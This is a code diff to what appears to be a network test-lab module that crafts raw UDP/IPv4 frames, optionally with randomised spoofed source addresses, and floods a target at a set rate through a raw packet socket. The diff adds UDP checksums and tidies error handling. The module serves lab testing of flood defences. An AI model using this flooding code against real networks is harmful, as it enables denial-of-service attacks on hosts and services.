@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import contextlib
 import ctypes
+import errno
 import itertools
 import random
 import signal
@@ -36,7 +37,7 @@ SOURCES_BITS = 22
 START_TIMEOUT = 30.0
 ETHERTYPE_IPV4 = 0x0800
 SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20  # linux/if_packet.h
-_IPV4 = struct.Struct("!BBHHHBBH4s4s")
+_IPV4 = struct.Struct("!BBHHHBBH")  # less its two addresses
 _UDP = struct.Struct("!HHHH")
 _IOVEC = struct.Struct("@PN")  # struct iovec
 _MESSAGE = struct.Struct("@PI4xPNPNi4xI4x")  # struct mmsghdr, on a 64-bit machine
@@ -91,11 +92,11 @@ def flood(
             timeout=START_TIMEOUT,
         )
         yield flooding
-        running.process.send_signal(signal.SIGTERM)
-        flooding.report = FloodReport(**running.result())
     except BaseException:
         running.cancel()
         raise
+    running.process.send_signal(signal.SIGTERM)
+    flooding.report = FloodReport(**running.result())
 
 
 def _frames(
@@ -106,13 +107,21 @@ def _frames(
     for payload in payloads:
         source = attacker.ipv4.ip if rng is None else SOURCES + rng.getrandbits(SOURCES_BITS)
         source_port = rng.randrange(1024, 65536) if rng is not None else 40000
-        udp = _UDP.pack(source_port, port, _UDP.size + len(payload), 0)  # 0: no checksum
-        length = _IPV4.size + len(udp) + len(payload)
-        fields = (0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP)
-        addresses = source.packed, target.ipv4.ip.packed
-        checksum = _checksum(_IPV4.pack(*fields, 0, *addresses))
-        frames.append(head + _IPV4.pack(*fields, checksum, *addresses) + udp + payload)
+        addresses = source.packed + target.ipv4.ip.packed
+        udp = _udp(source_port, port, payload, addresses)
+        fields = (0x45, 0, _IPV4.size + len(addresses) + len(udp), 0, 0, 64, socket.IPPROTO_UDP)
+        checksum = _checksum(_IPV4.pack(*fields, 0) + addresses)
+        frames.append(head + _IPV4.pack(*fields, checksum) + addresses + udp)
     return frames
+
+
+def _udp(source_port: int, port: int, payload: bytes, addresses: bytes) -> bytes:
+    """Return a UDP datagram.  Without its checksum it would not outlive the change of its port."""
+    length = _UDP.size + len(payload)
+    pseudo_header = addresses + struct.pack("!HH", socket.IPPROTO_UDP, length)
+    unsigned = _UDP.pack(source_port, port, length, 0) + payload
+    checksum = _checksum(pseudo_header + unsigned) or 0xFFFF
+    return _UDP.pack(source_port, port, length, checksum) + payload
 
 
 def _mac(node: Node) -> bytes:
@@ -120,10 +129,14 @@ def _mac(node: Node) -> bytes:
     return bytes.fromhex(node.run(["cat", path]).stdout.strip().replace(":", ""))
 
 
-def _checksum(header: bytes) -> int:
-    total: int = sum(struct.unpack(f"!{len(header) // 2}H", header))
-    total = (total & 0xFFFF) + (total >> 16)
-    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+def _checksum(data: bytes) -> int:
+    """Return the Internet checksum (RFC 1071)."""
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data[: len(data) // 2 * 2]))
+    if len(data) % 2:
+        total += data[-1] << 8
+    while total > 0xFFFF:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
 
 
 def _send(interface: str, frames: list[bytes], rate: float) -> dict[str, Any]:
@@ -135,23 +148,25 @@ def _send(interface: str, frames: list[bytes], rate: float) -> dict[str, Any]:
         stopping = True
 
     signal.signal(signal.SIGTERM, stop)
-    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-    opened.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
-    opened.bind((interface, 0))
     sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg
     batches = itertools.cycle(_batches(frames))
-    print(flush=True)
-    sent, started_at = 0, time.monotonic()
-    while not stopping:
-        ahead = started_at + sent / rate - time.monotonic()
-        if ahead > 0:
-            time.sleep(ahead)
-        batch = next(batches)
-        taken = sendmmsg(opened.fileno(), batch.messages, batch.length, 0)
-        if taken < 0 and ctypes.get_errno() not in (11, 105):  # EAGAIN, ENOBUFS: as if it were lost
-            raise LabError(f"sendmmsg: errno {ctypes.get_errno()}")
-        sent += max(taken, 0)
-    return {"sent": sent, "seconds": time.monotonic() - started_at}
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as opened:
+        opened.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
+        opened.bind((interface, 0))
+        print(flush=True)
+        sent, started_at = 0, time.monotonic()
+        while not stopping:
+            ahead = started_at + sent / rate - time.monotonic()
+            if ahead > 0:
+                time.sleep(ahead)
+            batch = next(batches)
+            taken = sendmmsg(opened.fileno(), batch.messages, batch.length, 0)
+            number = ctypes.get_errno()
+            # A full queue is as if the wire had lost them.
+            if taken < 0 and number not in (errno.EAGAIN, errno.ENOBUFS):
+                raise LabError(f"sendmmsg: {errno.errorcode.get(number, number)}")
+            sent += max(taken, 0)
+        return {"sent": sent, "seconds": time.monotonic() - started_at}
 
 
 class _Batch(NamedTuple):
